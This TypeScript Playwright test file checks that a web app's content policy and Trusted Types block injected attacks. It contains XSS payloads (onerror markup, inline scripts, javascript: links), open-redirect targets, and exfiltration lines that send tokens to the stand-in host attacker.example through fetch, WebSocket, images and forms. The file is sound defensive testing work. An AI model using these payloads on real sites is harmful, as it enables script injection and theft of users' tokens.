/**
 * Attacks on the app as it is delivered, with its headers, content policy and Trusted Types. None may succeed, and the
 * browser must report each of them and nothing else.
 */
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { Page } from "playwright-core";
import { test } from "uvu";
import * as assert from "uvu/assert";
import { demoPassword } from "../backend/demo.ts";
import { launch, serve, visit } from "../support/browser.ts";
import { enter } from "../support/customer.ts";

const browser = await launch();
const backend = await serve();

test.after(async () => {
  await browser.close();
  await backend.close();
});

interface Watching {
  /** Set by an attack that succeeds. */
  hacked?: boolean;
  /** Violated directives of the content policy, in order. */
  reports?: string[];
}

/** Before the page is loaded. */
const watchPolicy = (page: Page) =>
  page.addInitScript(() => {
    const watching = globalThis as Watching;
    const reports: string[] = [];
    watching.reports = reports;
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
      if (reports.at(-1) !== effectiveDirective) reports.push(effectiveDirective);
    });
  });

/** The reports since the last call. */
const takeReports = (page: Page) =>
  page.evaluate(async () => {
    // Reports arrive in tasks of their own, all of them within two frames.
    await new Promise((painted) => requestAnimationFrame(() => requestAnimationFrame(painted)));
    return (globalThis as Watching).reports?.splice(0) ?? [];
  });

const wasHacked = (page: Page) => page.evaluate(() => (globalThis as Watching).hacked === true);

/** The login, completely loaded. */
async function openLogin() {
  const visitor = await visit(browser, backend);
  await watchPolicy(visitor.page);
  await visitor.page.goto("/auth/login");
  await visitor.page.getByText("Nordwind").first().waitFor();
  // The policy is narrowed before the first request to an address from config.json.
  await visitor.page.waitForFunction(
    () => document.querySelectorAll("meta[http-equiv=Content-Security-Policy]").length > 1,
  );
  return visitor;
}

/** What an injected script or markup might do, and the directive that blocks it. */
const attempts: readonly { name: string; forbids: string; run: () => unknown }[] = [
  {
    name: "an inline script",
    forbids: "require-trusted-types-for",
    run: () => {
      const script = document.createElement("script");
      script.textContent = "globalThis.hacked = true";
      document.body.append(script);
    },
  },
  {
    name: "an inline script, assembled from text nodes",
    forbids: "require-trusted-types-for",
    run: () => {
      const script = document.createElement("script");
      script.append("globalThis.hacked = true");
      document.body.append(script);
    },
  },
  {
    name: "a script of another origin",
    forbids: "require-trusted-types-for",
    run: () => {
      const script = document.createElement("script");
      script.src = "https://attacker.example/x.js";
      document.body.append(script);
    },
  },
  {
    name: "markup with a handler",
    forbids: "require-trusted-types-for",
    run: () => {
      document.body.innerHTML = '<img src="x" onerror="globalThis.hacked = true">';
    },
  },
  {
    name: "an inline handler",
    forbids: "require-trusted-types-for",
    run: () => {
      const button = document.createElement("button");
      button.setAttribute("onclick", "globalThis.hacked = true");
      button.click();
    },
  },
  {
    name: "a javascript: link",
    forbids: "script-src-elem",
    run: () => {
      const link = document.createElement("a");
      link.href = "javascript:globalThis.hacked=true";
      document.body.append(link);
      link.click();
    },
  },
  {
    name: "evaluated text",
    forbids: "require-trusted-types-for",
    // In a task of its own, because code evaluated by the driver is exempt from the policy.
    run: () => void setTimeout(() => new Function("globalThis.hacked = true")()),
  },
  {
    name: "a policy of its own",
    forbids: "trusted-types",
    run: () => {
      const page = window as unknown as {
        trustedTypes: { createPolicy(name: string, rules: object): unknown };
      };
      page.trustedTypes.createPolicy("attacker", { createHTML: (text: string) => text });
    },
  },
  {
    name: "another worker",
    forbids: "require-trusted-types-for",
    run: () => new Worker("/assets/other.js"),
  },
  {
    name: "sending secrets away",
    forbids: "connect-src",
    run: () => fetch("https://attacker.example/?token"),
  },
  {
    name: "sending secrets away through a socket",
    forbids: "connect-src",
    run: () => new WebSocket("wss://attacker.example/"),
  },
  {
    name: "sending secrets away in a picture's address",
    forbids: "img-src",
    run: () => {
      new Image().src = "https://attacker.example/?token";
    },
  },
  {
    name: "a form that leads away",
    forbids: "form-action",
    run: () => {
      const form = document.createElement("form");
      form.action = "https://attacker.example/";
      document.body.append(form);
      form.submit();
    },
  },
  {
    name: "a foreign frame",
    forbids: "frame-src",
    run: () => {
      const frame = document.createElement("iframe");
      frame.src = "https://attacker.example/";
      document.body.append(frame);
    },
  },
  {
    name: "another base address",
    forbids: "base-uri",
    run: () => {
      const base = document.createElement("base");
      base.href = "https://attacker.example/";
      document.head.append(base);
    },
  },
  {
    name: "a foreign stylesheet",
    forbids: "style-src-elem",
    run: () => {
      const link = document.createElement("link");
      link.rel = "stylesheet";
      link.href = "https://attacker.example/x.css";
      document.head.append(link);
    },
  },
];

test("injected code neither runs nor sends anything", async () => {
  const { page, close } = await openLogin();
  assert.equal(await takeReports(page), [], "starting the app violates nothing");
  const reported: Record<string, readonly string[]> = {};
  for (const { name, run } of attempts) {
    await page.evaluate(run).catch(() => {}); // blocked calls may throw
    reported[name] = await takeReports(page);
    assert.not(await wasHacked(page), name);
    assert.is(new URL(page.url()).pathname, "/auth/login", name);
  }
  assert.equal(reported, Object.fromEntries(attempts.map(({ name, forbids }) => [name, [forbids]])));
  await close();
});

test("the narrowed policy holds after its element is removed", async () => {
  const { page, close } = await openLogin();
  await page.evaluate(() => {
    for (const policy of document.querySelectorAll("meta[http-equiv]")) policy.remove();
    return fetch("https://attacker.example/").catch(() => {});
  });
  assert.equal(await takeReports(page), ["connect-src"]);
  await close();
});

test("no other site can frame the app", async () => {
  const attacker = createServer((_, response) => {
    response.writeHead(200, { "content-type": "text/html" });
    response.end(`<link rel="icon" href="data:,"><iframe src="${backend.url}/auth/login"></iframe>`);
  });
  await new Promise<void>((listening) => attacker.listen(0, "127.0.0.1", listening));
  const { port } = attacker.address() as AddressInfo;
  const visitor = await visit(browser, backend);
  await visitor.page.goto(`http://127.0.0.1:${port}/`);
  assert.is(await visitor.page.frameLocator("iframe").getByLabel("E-Mail").count(), 0);
  assert.match(visitor.complaints.join("\n"), /frame-ancestors/);
  await visitor.close();
  attacker.close();
  attacker.closeAllConnections();
});

test("the address to open after signing in never leads to another site", async () => {
  for (const target of [
    "https://attacker.example/",
    "//attacker.example/admin",
    "/\\attacker.example/admin",
    "javascript:globalThis.hacked=true",
  ]) {
    const visitor = await openLogin();
    const { page } = visitor;
    await page.evaluate(
      (address) => history.replaceState({ index: 0, state: { target: address } }, ""),
      target,
    );
    await page.reload();
    await page.getByLabel("E-Mail").fill("kunde@musterbau.example");
    await page.getByLabel("Passwort", { exact: true }).fill(demoPassword);
    await page.getByRole("button", { name: "Anmelden", exact: true }).click();
    await page.getByRole("heading", { level: 1, name: "Ihre Dokumente" }).waitFor();
    assert.is(page.url(), `${backend.url}/customer`, target);
    assert.not(await wasHacked(page), target);
    visitor.complainsOnlyOf();
    await visitor.close();
  }
});

test("markup in names and values is shown as text", async () => {
  const markup = `<img src=x onerror="globalThis.hacked=true">'"><script>globalThis.hacked=true</script>`;
  const customer = backend.world.customers.find(({ assets }) => assets.length > 0);
  const asset = customer?.assets[0];
  const field = asset?.fields[0];
  assert.ok(customer && asset && field);
  customer.name = markup;
  asset.assettype_name = markup;
  field.value = "javascript:globalThis.hacked=true";
  const visitor = await visit(browser, backend);
  const { page } = visitor;
  await watchPolicy(page);
  await visitor.signIn("admin@nordwind.example");
  await page.goto(`/admin/customers/${customer.id}`);
  await page.getByRole("heading", { level: 1, name: markup }).waitFor();
  await page.goto(`/admin/customers/${customer.id}/asset/${asset.id}`);
  await page.getByText(field.value).first().waitFor();
  assert.is(await page.locator('a[href^="javascript"]').count(), 0);
  await page.goto("/admin/customers");
  await page.getByRole("searchbox").fill("<img");
  await page.getByText(markup).first().waitFor();
  assert.equal(await takeReports(page), []);
  assert.not(await wasHacked(page));
  visitor.complainsOnlyOf();
  await visitor.close();
});

test("HTML in place of a signed document is an error and not shown", async () => {
  const row = backend.world.clients().find(({ email }) => email === "kunde@musterbau.example");
  assert.ok(row);
  const now = new Date().toISOString();
  backend.world.putClient({ ...row, avv: { ...row.avv, sent: true, sentAt: now, path: "signed/avv.pdf" } });
  backend.world.putDocument({
    sub: row.id,
    documentType: "avv",
    path: "signed/avv.pdf",
    pdfBase64: Buffer.from("<script>parent.hacked = true</script>").toString("base64"),
    createdAt: now,
    filedAt: null,
  });
  const visitor = await enter(browser, backend, "kunde@musterbau.example", "/customer/avv");
  const { page } = visitor;
  await page.getByRole("alert").waitFor();
  assert.is(await page.locator("iframe").count(), 0);
  assert.not(await wasHacked(page));
  await visitor.close();
});

test.run();
